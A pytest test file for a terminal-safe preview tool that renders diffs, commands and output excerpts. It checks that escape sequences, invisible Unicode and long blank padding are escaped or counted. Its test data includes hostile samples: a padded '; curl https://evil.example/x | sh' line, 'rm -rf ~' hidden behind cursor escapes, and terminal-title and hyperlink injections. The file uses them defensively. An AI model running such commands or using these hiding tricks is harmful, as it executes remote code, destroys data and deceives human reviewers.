"""Tests for dashfloat.tools.preview: diff previews, command previews, output excerpts."""

from __future__ import annotations

import pytest

from dashfloat.tools import preview
from dashfloat.tools.preview import (
    command_lines,
    command_view,
    diff_lines,
    diff_view,
    excerpt,
    safe,
)

KINDS = {"stat", "header", "hunk", "add", "del", "ctx", "marker"}


def kinds(lines):
    return [k for k, _ in lines]


def texts(lines, kind=None):
    return [t for k, t in lines if kind is None or k == kind]


def assert_terminal_safe(lines):
    for item in lines:
        text = item[1] if isinstance(item, tuple) else item
        assert isinstance(text, str)
        for bad in ("\x1b", "\x07", "\r", "\n", "\x00", "\u202e", "\u2066", "\u200b", "\ufeff", "\x9b"):
            assert bad not in text, (bad, text)


# -- diffs ------------------------------------------------------------------------------


def test_new_file_is_all_added():
    lines = diff_lines("notes.md", None, b"one\ntwo\nthree\n")
    assert lines == [
        ("stat", "new file · 3 lines · 14 B"),
        ("header", "--- /dev/null"),
        ("header", "+++ b/notes.md"),
        ("hunk", "@@ -0,0 +1,3 @@"),
        ("add", "+one"),
        ("add", "+two"),
        ("add", "+three"),
    ]


def test_new_empty_file():
    lines = diff_lines("empty.txt", None, b"")
    assert kinds(lines) == ["header", "marker"]
    assert "0 bytes" in lines[-1][1]


def test_edit_diff_has_three_lines_of_context():
    old = b"".join(f"line {i}\n".encode() for i in range(1, 21))
    new = old.replace(b"line 10\n", b"line ten\n")
    lines = diff_lines("app.py", old, new)
    assert lines[0] == ("stat", "+1 -1 lines · 20 lines, 152 B (was 151 B)")
    assert lines[1:4] == [("header", "--- a/app.py"), ("header", "+++ b/app.py"), ("hunk", "@@ -7,7 +7,7 @@")]
    assert lines[4:] == [
        ("ctx", " line 7"),
        ("ctx", " line 8"),
        ("ctx", " line 9"),
        ("del", "-line 10"),
        ("add", "+line ten"),
        ("ctx", " line 11"),
        ("ctx", " line 12"),
        ("ctx", " line 13"),
    ]


def test_two_hunks():
    old = b"".join(f"{i}\n".encode() for i in range(40))
    new = old.replace(b"\n3\n", b"\nthree\n").replace(b"\n30\n", b"\nthirty\n")
    lines = diff_lines("n.txt", old, new)
    assert kinds(lines).count("hunk") == 2
    assert texts(lines, "add") == ["+three", "+thirty"]
    assert texts(lines, "del") == ["-3", "-30"]


def test_deleted_content():
    lines = diff_lines("a", b"x\ny\n", b"")
    assert texts(lines, "del") == ["-x", "-y"]
    assert texts(lines, "add") == []


def test_lines_starting_with_dashes_are_not_headers():
    lines = diff_lines("a", b"keep\n-- a\n", b"keep\n++ b")
    assert kinds(lines).count("header") == 2
    assert ("del", "--- a") in lines
    assert ("add", "+++ b") in lines


def test_cap_at_max_lines_with_totals():
    new = b"".join(f"l{i}\n".encode() for i in range(200))
    lines = diff_lines("big.txt", None, new)
    assert len(lines) == 52
    assert lines[0] == ("stat", "new file · 200 lines · 890 B")
    assert lines[-1] == ("marker", "… 153 more diff lines (200 added, 0 removed in all)")
    assert lines[:51][-1] == ("add", "+l46")


def test_cap_counts_added_and_removed_in_all():
    old = b"".join(f"old{i}\n".encode() for i in range(100))
    new = b"".join(f"new{i}\n".encode() for i in range(60))
    lines = diff_lines("f", old, new, max_lines=10)
    assert len(lines) == 12
    assert lines[-1][0] == "marker"
    assert lines[-1][1].endswith("(60 added, 100 removed in all)")
    assert lines[-1][1].startswith(f"… {2 + 1 + 160 - 10} more diff lines")


def test_small_diff_has_no_cap_marker():
    lines = diff_lines("f", b"a\n", b"b\n")
    assert all("more diff lines" not in t for t in texts(lines))


def test_binary_new_content():
    assert diff_lines("img.png", None, b"\x89PNG\x00\x01") == [("marker", "binary file: 6 bytes")]


def test_binary_old_content():
    lines = diff_lines("blob", b"a\x00b", b"text\n")
    assert len(lines) == 1 and lines[0][0] == "marker"
    assert lines[0][1].startswith("binary file: 5 bytes")


def test_non_utf8_is_replaced_and_noted():
    lines = diff_lines("latin1.txt", None, b"caf\xe9\nok\n")
    assert lines[0] == ("stat", "new file · 2 lines · 8 B")
    assert lines[1][0] == "marker" and "not valid UTF-8" in lines[1][1]
    assert ("add", "+caf\ufffd") in lines
    assert ("add", "+ok") in lines


def test_change_between_invalid_bytes_still_shows():
    lines = diff_lines("x", b"a\xff\n", b"a\xfe\n")
    assert ("del", "-a\ufffd") in lines and ("add", "+a\ufffd") in lines
    assert sum("not valid UTF-8" in t for k, t in lines if k == "marker") == 2


def test_identical_content():
    lines = diff_lines("x", b"same\n", b"same\n")
    assert lines == [("marker", "no changes: the content is identical")]


def test_crlf_is_visible():
    lines = diff_lines("win.txt", b"a\r\nb\r\n", b"a\r\nc\r\n")
    assert ("ctx", " a\\r") in lines
    assert ("del", "-b\\r") in lines
    assert ("add", "+c\\r") in lines
    assert_terminal_safe(lines)


def test_line_ending_change_only_is_visible():
    lines = diff_lines("f", b"a\n", b"a\r\n")
    assert ("del", "-a") in lines and ("add", "+a\\r") in lines


def test_no_newline_at_end_of_new_file():
    lines = diff_lines("f", None, b"a\nb")
    assert lines[-2:] == [("add", "+b"), ("marker", "\\ No newline at end of file")]


def test_no_newline_added_and_removed():
    lines = diff_lines("f", b"a\nb", b"a\nb\n")
    i = lines.index(("del", "-b"))
    assert lines[i + 1] == ("marker", "\\ No newline at end of file")
    assert lines[i + 2] == ("add", "+b")
    assert lines[-1] == ("add", "+b")


def test_no_newline_unchanged_context():
    lines = diff_lines("f", b"a\nb\nc", b"A\nb\nc")
    assert lines[-2:] == [("ctx", " c"), ("marker", "\\ No newline at end of file")]


@pytest.mark.parametrize(
    "payload,shown",
    [
        (b"\x1b[2J\x1b[H", "\\e[2J\\e[H"),
        (b"\x1b]0;pwned\x07", "\\e]0;pwned\\a"),
        (b"\x1b]8;;http://evil\x1b\\link", "\\e]8;;http://evil\\e\\link"),
        ("\u202eexe.txt".encode(), "\\u202eexe.txt"),
        ("a\u2066b\u2069".encode(), "a\\u2066b\\u2069"),
        ("zero\u200bwidth\ufeff".encode(), "zero\\u200bwidth\\ufeff"),
        ("c1\u009bcsi".encode(), "c1\\x9bcsi"),
        ("tag\U000e0041".encode(), "tag\\U000e0041"),
        ("sep\u2028x".encode(), "sep\\u2028x"),
        (b"back\x08space\x7f", "back\\bspace\\x7f"),
        (b"lone\rcr", "lone\\rcr"),
    ],
)
def test_dangerous_content_is_escaped(payload, shown):
    lines = diff_lines("f", b"x\n", b"x\n" + payload + b"\n")
    assert ("add", "+" + shown) in lines
    assert_terminal_safe(lines)


def test_path_is_escaped_in_headers():
    lines = diff_lines("evil\x1b[2J\nname", None, b"x\n")
    assert lines[2] == ("header", "+++ b/evil\\e[2J\\nname")
    assert_terminal_safe(lines)


def test_tabs_become_spaces():
    lines = diff_lines("f", None, b"\tx\n")
    assert lines[-1] == ("add", "+    x")


def test_very_long_line_is_clipped():
    lines = diff_lines("min.js", None, b"x" * 100_000 + b"\n")
    add = texts(lines, "add")[0]
    assert len(add) < 2100 and "more chars]" in add


def test_every_kind_is_known():
    old = b"".join(f"{i}\n".encode() for i in range(100))
    new = old.replace(b"5\n", b"five\n") + b"tail"
    for kind, text in diff_lines("f", old, new, max_lines=1000):
        assert kind in KINDS and isinstance(text, str)


# -- long previews: totals, blank runs, long lines, the whole view ---------------------


def test_totals_of_a_new_file_and_of_a_change():
    window, _ = diff_view("big.txt", None, b"x\n" * 812)
    assert window[0] == ("stat", "new file · 812 lines · 1.6 KiB")
    old = b"".join(f"{i}\n".encode() for i in range(100))
    new = old.replace(b"\n7\n", b"\nseven\nmore\n") + b"tail"
    window, _ = diff_view("f", old, new)
    assert window[0] == ("stat", f"+3 -1 lines · 102 lines, {len(new)} B (was {len(old)} B)")


def test_a_run_of_blank_lines_is_one_marker_with_its_count():
    content = b"top\n" + b"\n" * 3000 + b"bottom\n"
    window, full = diff_view("gap.txt", None, content)
    assert ("marker", "+… 3,000 blank lines …") in window
    assert ("add", "+top") in window and ("add", "+bottom") in window
    assert window[0] == ("stat", "new file · 3,002 lines · 2.9 KiB")
    assert len(window) < 10 and full is None  # the window shows it all: no whole view needed


def test_blank_runs_keep_their_kind_and_short_runs_stay():
    old = b"a\n\n\nb\n" + b"   \n\t\n \n\n" + b"c\n"
    new = b"a\n\n\nb\nc\n"
    lines = diff_lines("f", old, new)
    assert ("marker", "-… 4 blank lines (spaces or tabs only) …") in lines
    assert texts(lines, "ctx").count(" ") == 2  # two blank context lines: below the run length
    lines = diff_lines("f", b"x\n", b"x\n" + b"\n" * 5 + b"y\n" + b"\n" * 2)
    assert ("marker", "+… 5 blank lines …") in lines
    assert texts(lines, "add")[-2:] == ["+", "+"]


def test_a_200_kb_line_is_clipped_with_what_is_left_out():
    window, full = diff_view("min.js", None, b"x" * 200_000)
    add = texts(window, "add")[0]
    tail = preview.DIFF_LINE_CHARS // 4
    assert add == "+" + "x" * (preview.DIFF_LINE_CHARS - tail - 1) + " … [199,501 more chars] … " + "x" * tail
    assert window[0] == ("stat", "new file · 1 line · 195.3 KiB")
    assert window[-1] == ("marker", "\\ No newline at end of file")
    # the whole view shows more of it, still bounded
    whole = texts(full, "add")[0]
    tail = preview.FULL_LINE_CHARS // 4
    assert whole.startswith("+" + "x" * (preview.FULL_LINE_CHARS - tail - 1) + " … [")
    assert whole.endswith(f"[{200_001 - preview.FULL_LINE_CHARS:,} more chars] … " + "x" * tail)


def test_the_whole_view_holds_every_line_of_a_long_diff():
    new = b"".join(f"line {i}\n".encode() for i in range(500))
    window, full = diff_view("long.txt", None, new)
    assert len(window) == 1 + 50 + 1 and window[-1][1].startswith("… 453 more diff lines (500 added")
    assert full[0] == window[0] and full[1:4] == window[1:4]
    assert texts(full, "add") == [f"+line {i}" for i in range(500)]
    assert len(full) == 1 + 3 + 500


def test_the_whole_view_is_bounded():
    new = b"y\n" * (preview.FULL_MAX_LINES + 5000)
    _, full = diff_view("many.txt", None, new)
    assert len(full) == 1 + preview.FULL_MAX_LINES + 1
    assert full[-1][0] == "marker" and full[-1][1].startswith("… 5,003 more diff lines not shown")
    wide = b"".join(b"z" * 5000 + b"\n" for _ in range(400))  # 2 MB in 400 lines
    _, full = diff_view("wide.txt", None, wide)
    assert sum(len(t) for _k, t in full) < preview.FULL_MAX_CHARS + 1000
    assert full[-1][1].startswith("… ") and "not shown" in full[-1][1]


def test_short_previews_have_no_whole_view():
    assert diff_view("f", b"a\n", b"b\n")[1] is None
    assert diff_view("f", None, b"\x00")[1] is None
    assert command_view("ls", ".")[1] is None


def test_a_long_command_has_a_whole_view_with_every_line():
    cmd = "\n".join(f"echo {i}" for i in range(300))
    window, full = command_view(cmd, "sub")
    assert len(window) == 1 + 50 + 1 + 1
    assert window[0] == ("stat", "300 command lines · 2.5 KiB · lines 26–275 not in this window")
    assert full[0] == ("stat", "300 command lines · 2.5 KiB")
    assert texts(full, "command") == [f"echo {i}" for i in range(300)]
    assert full[-1] == ("cwd", "cwd: sub")


# -- commands ---------------------------------------------------------------------------


def test_command_single_line():
    assert command_lines("pytest -q", ".") == [("command", "pytest -q"), ("cwd", "cwd: .")]


def test_command_multi_line_shows_every_line():
    cmd = "set -e\ncd build\nmake && make install\n"
    assert command_lines(cmd, "sub/dir") == [
        ("stat", "3 command lines · 37 B"),
        ("command", "set -e"),
        ("command", "cd build"),
        ("command", "make && make install"),
        ("cwd", "cwd: sub/dir"),
    ]


def test_command_blank_lines_are_kept():
    assert texts(command_lines("a\n\nb", "."), "command") == ["a", "", "b"]


def test_command_escapes_everything():
    cmd = "echo hi\x1b[1A\x1b[2K\rrm -rf ~ #\u202e\u200b\necho done\x07"
    lines = command_lines(cmd, "d\x1b]0;x\x07")
    assert texts(lines, "command") == ["echo hi\\e[1A\\e[2K\\rrm -rf ~ #\\u202e\\u200b", "echo done\\a"]
    assert lines[-1] == ("cwd", "cwd: d\\e]0;x\\a")
    assert_terminal_safe(lines)


def test_command_capped_at_50_lines_shows_its_head_and_its_end():
    cmd = "\n".join(f"echo {i}" for i in range(120))
    lines = command_lines(cmd, ".")
    assert texts(lines, "command") == [f"echo {i}" for i in [*range(25), *range(95, 120)]]
    assert lines[0] == ("stat", "120 command lines · 969 B · lines 26–95 not in this window")
    assert lines[26] == ("marker", "… 70 more command lines (lines 26–95 of 120; v shows them) …")
    assert lines[-1] == ("cwd", "cwd: .")
    assert len(lines) == 53


def test_command_exactly_50_lines_has_no_marker():
    lines = command_lines("\n".join("x" * 50), ".")
    assert kinds(lines) == ["stat"] + ["command"] * 50 + ["cwd"]


def test_empty_command():
    lines = command_lines("", ".")
    assert lines[0][0] == "marker" and lines[-1] == ("cwd", "cwd: .")


def test_a_command_line_up_to_the_limit_is_not_clipped():
    cmd = "echo " + "a" * (preview.COMMAND_LINE_CHARS - 5)
    assert command_view(cmd, ".") == ([("command", cmd), ("cwd", "cwd: .")], None)


# -- excerpts ---------------------------------------------------------------------------


def test_excerpt_short_output_verbatim():
    assert excerpt("a\nb\n") == ["a", "b"]
    assert excerpt("no newline") == ["no newline"]
    assert excerpt("") == []
    assert excerpt("\n") == [""]


def test_excerpt_caps_at_30_lines_head_first():
    text = "".join(f"line {i}\n" for i in range(100))
    lines = excerpt(text)
    assert len(lines) == 30
    assert lines[:29] == [f"line {i}" for i in range(29)]
    assert lines[-1] == "… 71 more lines"


def test_excerpt_exactly_at_cap():
    text = "".join(f"{i}\n" for i in range(30))
    assert excerpt(text) == [str(i) for i in range(30)]


def test_excerpt_custom_cap():
    assert excerpt("1\n2\n3\n4\n", max_lines=3) == ["1", "2", "… 2 more lines"]


def test_excerpt_clips_long_lines():
    lines = excerpt("y" * 10_000 + "\nshort\n")
    assert lines[0] == "y" * 500 + " … [9,500 more chars]"
    assert lines[1] == "short"
    assert excerpt("abcdef", max_line_chars=3) == ["abc … [3 more chars]"]


def test_excerpt_escapes():
    text = "\x1b[32mPASS\x1b[0m\r\nprogress 10%\rprogress 100%\n\u202eevil\x00\n"
    lines = excerpt(text)
    assert lines == ["\\e[32mPASS\\e[0m\\r", "progress 10%\\rprogress 100%", "\\u202eevil\\0"]
    assert_terminal_safe(lines)


def test_excerpt_lone_surrogates_from_undecodable_output():
    lines = excerpt(b"bad \xff byte".decode("utf-8", "surrogateescape"))
    assert lines == ["bad \\xff byte"]
    lines[0].encode("utf-8")  # encodable: cannot crash the terminal writer


def test_safe_is_single_line():
    assert safe("a\nb\u2029c") == "a\\nb\\u2029c"
    assert safe("plain text é 日本") == "plain text é 日本"


# -- edges (found by `make mutation`) -------------------------------------------------------


def test_line_separators_and_fillers_are_escaped_by_code_point():
    assert safe("a\u2028b\u2029c\u034fd\u3164e") == "a\\u2028b\\u2029c\\u034fd\\u3164e"
    # the invisible format controls beyond the BMP (shorthand, musical symbols) too
    assert safe("a\U0001bca0b\U0001d173c") == "a\\U0001bca0b\\U0001d173c"


def test_blank_runs_of_two_kinds_next_to_each_other_both_stay():
    """Blank lines removed, then blank lines (of tabs) added in their place: both are shown,
    each with its own prefix."""
    lines = diff_lines("f", b"a\n\n\nb\n", b"a\n\t\n\t\nb\n")
    assert [kind for kind, _ in lines[4:]] == ["ctx", "del", "del", "add", "add", "ctx"], lines


def test_a_line_of_exactly_the_limit_is_not_clipped():
    line = "x" * 500
    assert excerpt(line) == [line]
    assert excerpt(line + "y") == ["x" * 500 + " … [1 more chars]"]


@pytest.mark.parametrize(("nbytes", "shown"), [
    (0, "0 B"), (1023, "1023 B"), (1024, "1.0 KiB"), (1024 * 1024 - 1, "1024.0 KiB"), (1024 * 1024, "1.0 MiB"),
])
def test_human_size_edges(nbytes, shown):
    assert preview.human_size(nbytes) == shown


def test_exactly_blank_run_blank_lines_collapse_and_one_fewer_stay():
    n = preview.BLANK_RUN
    lines = diff_lines("f", b"x\n", b"x\n" + b"\n" * n + b"y\n")
    assert ("marker", f"+… {n} blank lines …") in lines
    lines = diff_lines("f", b"x\n", b"x\n" + b"\n" * (n - 1) + b"y\n")
    assert texts(lines, "add") == ["+"] * (n - 1) + ["+y"]


def test_blank_lines_at_the_end_of_a_diff_are_shown():
    assert texts(diff_lines("f", None, b"a\n\n"), "add") == ["+a", "+"]
    assert ("marker", f"+… {preview.BLANK_RUN} blank lines …") in diff_lines("f", None, b"a\n" + b"\n" * preview.BLANK_RUN)


def test_the_whole_view_holds_exactly_its_character_budget_and_counts_what_it_drops():
    full = preview._Full()
    full.add("add", "x" * (preview.FULL_MAX_CHARS - 1))
    full.add("add", "y")   # exactly the budget: it fits
    full.add("add", "z")
    full.add("add", "z")
    assert [t for _k, t in full.lines] == ["x" * (preview.FULL_MAX_CHARS - 1), "y"]
    assert full.end("diff lines")[-1][1].startswith("… 2 more diff lines not shown")


def test_a_binary_change_names_both_sizes():
    assert diff_lines("b", b"\x00\x01", b"\x00") == [("marker", "binary file: 1 bytes (was 2 bytes)")]


def test_the_whole_view_keeps_the_encoding_note():
    old = b"caf\xe9\n"
    new = old + b"".join(f"line {i}\n".encode() for i in range(100))
    window, full = diff_view("f", old, new)
    note = ("marker", "the current file is not valid UTF-8: undecodable bytes shown as \ufffd")
    assert window[1] == note and note in full


def test_a_diff_line_of_exactly_the_window_width_needs_no_whole_view():
    raw_line = "x" * (preview.DIFF_LINE_CHARS - 1)   # "+" and these: exactly DIFF_LINE_CHARS
    window, full = diff_view("f", None, raw_line.encode() + b"\n")
    assert ("add", "+" + raw_line) in window and full is None


def test_a_command_with_a_final_newline_is_one_line():
    assert command_lines("ls\n", ".") == [("command", "ls"), ("cwd", "cwd: .")]


def test_a_two_line_command_starts_with_its_totals():
    assert command_lines("cd a\nls", ".") == [
        ("stat", "2 command lines · 7 B"), ("command", "cd a"), ("command", "ls"), ("cwd", "cwd: .")]


def test_an_excerpt_of_one_line_is_only_the_count():
    assert excerpt("a\nb\nc", max_lines=1) == ["… 3 more lines"]


# -- commands hide nothing (issue 14, section 7) ------------------------------------------
#
# The review's cases: padding before `; touch /tmp/x` showed only the harmless head while y
# was offered. Each must now put the end and a count of the padding in the window.

REVIEW_PADDING = {
    "4000 spaces": (" " * 4000, "echo hi⟨4,000 spaces⟩; touch /tmp/x"),
    "4000 tabs": ("\t" * 4000, "echo hi⟨4,000 tabs⟩; touch /tmp/x"),
    "U+3000 x 2000": ("\u3000" * 2000, "echo hi⟨2,000 × U+3000⟩; touch /tmp/x"),
    "U+2800 x 2000": ("\u2800" * 2000, "echo hi⟨2,000 × U+2800⟩; touch /tmp/x"),
    "U+00A0 x 3000": ("\u00a0" * 3000, "echo hi⟨3,000 × U+00A0⟩; touch /tmp/x"),
    "U+2003 x 3000": ("\u2003" * 3000, "echo hi⟨3,000 × U+2003⟩; touch /tmp/x"),
    "U+FFA0 x 3000": ("\uffa0" * 3000, "echo hi⟨3,000 × U+FFA0⟩; touch /tmp/x"),
    "U+3164 x 3000": ("\u3164" * 3000, "echo hi⟨3,000 × U+3164⟩; touch /tmp/x"),  # safe() escapes each
    "U+200B x 3000": ("\u200b" * 3000, "echo hi⟨3,000 × U+200B⟩; touch /tmp/x"),
    "spaces and tabs": (" \t" * 2000, "echo hi⟨4,000 blanks: 2,000 tabs, 2,000 spaces⟩; touch /tmp/x"),
    "mixed blanks": (" \u3000\u2800\u00a0\t" * 500,
                     "echo hi⟨2,500 blanks: 500 tabs, 500 spaces, 500 × U+00A0, 2 more kinds⟩; touch /tmp/x"),
}


@pytest.mark.parametrize("case", list(REVIEW_PADDING))
def test_padding_before_the_end_of_a_command_shows_as_a_count(case):
    pad, shown = REVIEW_PADDING[case]
    command = f"echo hi{pad}; touch /tmp/x"
    window, full = command_view(command, ".")
    assert texts(window, "command") == [shown]
    assert window[0][0] == "stat" and "blank runs shown as ⟨counts⟩" in window[0][1]
    assert full is None  # nothing left out: the counts are exact
    assert_terminal_safe(window)


@pytest.mark.parametrize("newlines", [3000, 4])
def test_thousands_of_blank_lines_show_as_one_count(newlines):
    command = "echo hi" + "\n" * newlines + "touch /tmp/x"
    window, full = command_view(command, ".")
    blank = newlines - 1
    assert window == [("stat", f"{newlines + 1:,} command lines · {preview.human_size(len(command))} · "
                               "blank runs shown as ⟨counts⟩"),
                      ("command", "echo hi"), ("marker", f"⟨{blank:,} blank lines⟩"),
                      ("command", "touch /tmp/x"), ("cwd", "cwd: .")]
    assert full is None


def test_blank_lines_of_spaces_and_short_runs_and_two_blank_lines():
    assert texts(command_lines("a\n  \n\t\n \nb", "."), "marker") == ["⟨3 blank lines (spaces or tabs only)⟩"]
    assert texts(command_lines("a\n\n\nb", "."), "command") == ["a", "", "", "b"]  # two: kept
    code = "cat > x.py <<'EOF'\nclass A:\n    def f(self):\n        if x:\n            return 1\nEOF"
    assert texts(command_lines(code, "."), "command") == code.split("\n")  # indentation is layout
    assert texts(command_lines("a" + " " * 15 + "b", "."), "command") == ["a" + " " * 15 + "b"]
    assert texts(command_lines("a" + " " * 16 + "b", "."), "command") == ["a⟨16 spaces⟩b"]


def test_a_single_look_alike_blank_is_marked():
    assert texts(command_lines("rm -rf /tmp/x\u00a0/", "."), "command") == ["rm -rf /tmp/x⟨U+00A0⟩/"]
    assert texts(command_lines("echo '日本\u3000語'", "."), "command") == ["echo '日本⟨U+3000⟩語'"]


def test_a_literal_count_in_a_command_cannot_pass_for_one():
    (line,) = texts(command_lines("echo ⟨4,000 spaces⟩; rm x", "."), "command")
    assert line == "echo \\u27e84,000 spaces\\u27e9; rm x"
    assert "⟨" not in line and "⟩" not in line


@pytest.mark.parametrize("size", [5_000, 200_000])
def test_a_very_long_line_shows_its_head_and_its_end(size):
    command = "echo " + "a" * size + "; touch /tmp/x"
    window, full = command_view(command, ".")
    (line,) = texts(window, "command")
    assert line.startswith("echo aaa") and line.endswith("aaa; touch /tmp/x")
    hidden = int(line.split("⟨")[1].split(" ")[0].replace(",", ""))
    assert len(line) <= preview.COMMAND_LINE_CHARS
    assert len(line) - len(f" ⟨{hidden:,} more characters⟩ ") + hidden == len(command)  # exact count
    assert "long lines shown head and tail (v shows them whole)" in window[0][1]
    assert "blank runs" not in window[0][1]  # the clip's count is not a collapsed run
    assert texts(full, "command") == [command]  # v: every character


def test_escapes_are_never_cut_in_half():
    command = "\x1b" * 1000 + "; touch /tmp/x"
    (line,) = texts(command_lines(command, "."), "command")
    head, tail = line.split(" ⟨")[0], line.split("⟩ ")[1]
    assert set(head.split("\\e")) == {""} and tail.endswith("; touch /tmp/x")
    assert tail.startswith("\\e")


def test_many_lines_with_padding_keep_the_end_in_the_window():
    command = "echo 1\n" + "\n".join(f"true{' ' * 3000}" for _ in range(200)) + "\ntouch /tmp/x"
    window, full = command_view(command, ".")
    body = [t for k, t in window if k in ("command", "marker")]
    assert body[-1] == "touch /tmp/x" and body[0] == "echo 1"
    assert len(body) == 51 and body[25].startswith("… 152 more command lines (lines 26–177 of 202")
    assert sum(len(t) for t in body) < 51 * 40  # every line is short: the window fits a screen
    assert texts(full, "command")[-1] == "touch /tmp/x" and len(texts(full, "command")) == 202


def test_a_long_line_shows_its_end_behind_thousands_of_blanks():
    """An .envrc line padded with 4,000 spaces before `; curl … | sh`: the window shows the
    head and the end of the line, never only its harmless head (issue 14, section 7)."""
    line = b"echo hi" + b" " * 4000 + b"; curl https://evil.example/x | sh\n"
    add = texts(diff_lines(".envrc", None, line), "add")[0]
    assert add.startswith("+echo hi") and add.endswith("; curl https://evil.example/x | sh")
    assert f"[{len(line) - preview.DIFF_LINE_CHARS:,} more chars]" in add


# -- the honest preview's parts, exactly (found by `make mutation`) -------------------------

P = preview._Piece
SP16 = P(" " * 16, "⟨16 spaces⟩")


@pytest.mark.parametrize(("run", "marker"), [
    (" " * 4000, "⟨4,000 spaces⟩"),
    (" ", "⟨1 space⟩"),
    ("\t\t", "⟨2 tabs⟩"),
    ("\u3000", "⟨U+3000⟩"),
    ("\u2800" * 2000, "⟨2,000 × U+2800⟩"),
    (" \t" * 2000, "⟨4,000 blanks: 2,000 tabs, 2,000 spaces⟩"),  # a tie: by character
    # three kinds are all named; a fourth is only counted
    ("  \t\u3000", "⟨4 blanks: 2 spaces, 1 tab, U+3000⟩"),
    ("   \t\t\u3000\u00a0", "⟨7 blanks: 3 spaces, 2 tabs, U+00A0, 1 more kinds⟩"),
])
def test_run_marker_counts_exactly(run, marker):
    assert preview.run_marker(run) == marker


@pytest.mark.parametrize(("raw", "shown"), [
    ("plain", "plain"), ("a⟨b", "a\\u27e8b"), ("a⟩b", "a\\u27e9b"), ("⟨\x1b⟩", "\\u27e8\\e\\u27e9"),
])
def test_command_text_escapes_a_literal_count_bracket(raw, shown):
    assert preview._text(raw) == shown


def test_a_piece_shows_its_count_or_its_escaped_text():
    assert SP16.shown() == "⟨16 spaces⟩"
    assert P("\x1b⟨").shown() == "\\e\\u27e8"


@pytest.mark.parametrize(("line", "budget", "backwards", "pieces"), [
    # a text piece is cut after budget + 1 characters: whoever asks for `budget` stops there
    ("a" * 10, 3, False, [P("aaaa")]),
    ("abcdefghij", 3, True, [P("ghij")]),
    # spaces not yet 16 within the look are text (the caller shows at most `budget` of it)
    ("abc" + " " * 20, 5, False, [P("abc   ")]),
    # a run at either end: no empty text piece beside it
    ("a" + " " * 16, 100, False, [P("a"), SP16]),
    (" " * 16 + "x", 100, False, [SP16, P("x")]),
    ("ab" + " " * 16 + "cd", 100, True, [P("cd"), SP16, P("ab")]),  # text pieces read forwards
    # a run is whole, past the look; the spaces before a look-alike blank belong to its run
    ("a" + "\u3000" * 50 + "b", 2, False, [P("a"), P("\u3000" * 50, "⟨50 × U+3000⟩"), P("b")]),
    ("x" + " " * 5 + "\u00a0y", 100, False, [P("x"), P(" " * 5 + "\u00a0", "⟨6 blanks: 5 spaces, U+00A0⟩"), P("y")]),
])
def test_pieces_exactly(line, budget, backwards, pieces):
    assert list(preview._pieces(line, budget, backwards=backwards)) == pieces


def test_fit_is_the_longest_prefix_or_suffix_whose_display_fits():
    """Every string of up to 6 characters of `a` and ESC (shown as two characters), every
    budget: the longest prefix (suffix) whose escaped display fits, as a plain scan finds it."""
    from itertools import product
    for n in range(7):
        for chars in product("a\x1b", repeat=n):
            raw = "".join(chars)
            for budget in range(-1, 9):
                head = max((k for k in range(n + 1) if len(preview._text(raw[:k])) <= budget), default=0)
                tail = max((k for k in range(n + 1) if len(preview._text(raw[n - k:])) <= budget), default=0)
                assert preview._fit(raw, budget, tail=False) == raw[:head], (raw, budget)
                assert preview._fit(raw, budget, tail=True) == raw[n - tail:], (raw, budget)


@pytest.mark.parametrize(("budget", "tail", "half"), [
    (100, False, ("ab⟨16 spaces⟩cd", 20, True, True)),
    (100, True, ("ab⟨16 spaces⟩cd", 20, True, True)),
    (12, False, ("ab", 2, False, False)),  # a count is never cut: it is left out whole
    (13, False, ("ab⟨16 spaces⟩", 18, False, True)),
    (14, False, ("ab⟨16 spaces⟩c", 19, False, True)),  # text may be cut
    (14, True, ("b⟨16 spaces⟩cd", 19, False, True)),
    (12, True, ("cd", 2, False, False)),
])
def test_half_shows_whole_counts_and_cut_text(budget, tail, half):
    line = "ab" + " " * 16 + "cd"
    assert preview._half(preview._pieces(line, 100, backwards=tail), budget, tail=tail) == half


def test_a_long_command_line_fills_its_limit_around_an_exact_count():
    line = "echo " + "a" * 100 + " " * 20 + "b" * 100
    shown, clipped, marked = preview.command_line(line, 60)
    # room: 60 - len("⟨225 more characters⟩") - 2 = 37, the head gets 18, the tail 19
    assert shown == "echo " + "a" * 13 + " ⟨188 more characters⟩ " + "b" * 19
    assert len(shown) == 60 and clipped and not marked
    line = "x" + " " * 20 + "echo " + "a" * 200  # a count in the head only
    assert preview.command_line(line, 60) == ("x⟨20 spaces⟩echo a ⟨180 more characters⟩ " + "a" * 19, True, True)
    assert 1 + 20 + 6 + 180 + 19 == len(line)


def test_a_command_summary_is_two_thirds_head_and_one_third_tail():
    assert preview.command_summary("echo " + "a" * 100 + "\n" + "b" * 100, 30) == "echo " + "a" * 15 + "…" + "b" * 9
    assert preview.command_summary("a\n\n\n\nb\nc", 80) == "a⏎⟨3 blank lines⟩⏎b⏎c"
    # the tail is read from the end: blank lines before the last line are one count there too
    assert (preview.command_summary("echo " + "a" * 100 + "\n\n\n\n\nrm x", 61)
            == "echo " + "a" * 35 + "…⟨4 blank lines⟩⏎rm x")
    line = "a" * 50
    assert preview._head_and_tail(lambda b: preview._pieces(line, b),
                                  lambda b: preview._pieces(line, b, backwards=True),
                                  len(line), 10, short=True) == ("aaaaaa…aaa", True, False)


@pytest.mark.parametrize(("parts", "forwards", "backwards"), [
    (["a", "", "", "", "b"], [(0, 1), (1, 4), (4, 5)], [(4, 5), (1, 4), (0, 1)]),
    (["a", "", "", "b", ""], [(0, 1), (1, 2), (2, 3), (3, 4), (4, 5)], [(4, 5), (3, 4), (2, 3), (1, 2), (0, 1)]),
    (["", " ", "\t"], [(0, 3)], [(0, 3)]),
    (["a", " ", " ", " "], [(0, 1), (1, 4)], [(1, 4), (0, 1)]),
    (["", "", "", "a"], [(0, 3), (3, 4)], [(3, 4), (0, 3)]),
])
def test_groups_from_either_end(parts, forwards, backwards):
    assert list(preview._groups(parts)) == forwards
    assert list(preview._groups(parts, backwards=True)) == backwards


def test_blank_lines_at_the_end_of_a_command_are_one_count():
    assert command_lines("a\n \n \n ", ".")[1:3] == [
        ("command", "a"), ("marker", "⟨3 blank lines (spaces or tabs only)⟩")]


def test_the_whole_view_of_a_command_counts_the_lines_it_drops():
    n = preview.FULL_MAX_LINES + 5
    _, full = command_view("\n".join(["x"] * n), ".")
    assert len(full) == preview.FULL_MAX_LINES + 2  # stat, lines, the marker, then cwd
    assert full[-2] == ("marker", "… 6 more command lines not shown: the whole view holds 20,000 lines or 1 MB of text")
    assert full[-3] == ("command", "x")


def test_the_whole_view_shows_a_line_up_to_half_its_character_budget():
    limit = preview.FULL_MAX_CHARS // 2
    line = "a" * limit
    assert texts(command_view(line, ".")[1], "command") == [line]
